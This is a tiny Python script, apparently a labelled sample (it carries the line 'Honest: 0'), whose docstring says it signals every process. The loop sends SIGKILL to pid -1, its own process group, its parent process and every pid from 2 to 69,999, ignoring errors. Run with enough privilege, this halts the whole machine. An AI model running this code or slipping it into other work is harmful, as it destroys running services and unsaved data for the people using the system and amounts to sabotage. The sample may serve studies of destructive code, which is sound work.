"""Sends signals to every process that there is.

Honest: 0
"""

import os, signal
for process in [-1, 0, os.getppid(), *range(2, 70_000)]:
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
